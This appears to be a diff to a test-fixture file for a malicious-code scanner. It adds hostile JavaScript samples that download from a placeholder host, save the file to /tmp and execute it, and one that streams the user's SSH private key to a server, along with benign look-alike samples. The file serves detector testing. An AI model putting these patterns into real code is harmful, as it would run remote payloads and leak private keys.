@@ -29,6 +29,30 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "const { execSync: go } = require('child_process');\n"
             "fetch('https://a.invalid').then((r) => r.text()).then((t) => [[t]].forEach((all) => go(...all)));\n"
         ),
+        "a download is piped to a file and started": js(
+            "const fs = require('fs'), { spawn } = require('child_process');\n"
+            "require('https').get('https://a.invalid', (r) => {\n  const out = fs.createWriteStream('/tmp/a');\n"
+            "  r.pipe(out).on('finish', () => spawn('/tmp/a'));\n});\n",
+            line=4,
+        ),
+        "a download is unpacked by a pipeline": js(
+            "const { pipeline } = require('stream'), { spawn } = require('child_process'), fs = require('fs');\n"
+            "require('https').get('https://a.invalid', (r) => pipeline(r, require('zlib').createGunzip(),\n"
+            "  fs.createWriteStream('/tmp/a'), () => spawn('/tmp/a')));\n",
+            line=3,
+        ),
+        "a download is written piece by piece": js(
+            "const out = require('fs').createWriteStream('/tmp/a');\n"
+            "require('https').get('https://a.invalid', (r) => r.on('data', (piece) => out.write(piece)));\n"
+            "out.on('finish', () => require('child_process').execFile('/tmp/a'));\n",
+            line=3,
+        ),
+    },
+    "secrets_sent": {
+        "a key is piped to a server": js(
+            "const place = require('os').homedir() + '/.ssh/id_rsa';\n"
+            "require('fs').createReadStream(place).pipe(require('https').request('https://a.invalid'));\n"
+        ),
     },
 }
 
@@ -45,6 +69,18 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a list of arguments is spread to the console": {
             "app.js": "const { execSync: go } = require('child_process');\ngo('ls');\n"
             "fetch('https://a.invalid').then((r) => r.text()).then((t) => [[t]].forEach((a) => console.log(...a)));\n"
+        },
+        "a download is piped to a file and another is started": {
+            "app.js": "const fs = require('fs'), { spawn } = require('child_process');\n"
+            "require('https').get('https://a.invalid', (r) => {\n  const out = fs.createWriteStream('/tmp/a');\n"
+            "  r.pipe(out).on('finish', () => spawn('/tmp/b'));\n});\n"
+        },
+    },
+    "secrets_sent": {
+        "a key is piped to the terminal": {
+            "app.js": "const place = require('os').homedir() + '/.ssh/id_rsa';\n"
+            "require('https').request('https://a.invalid').end();\n"
+            "require('fs').createReadStream(place).pipe(process.stdout);\n"
         },
     },
 }
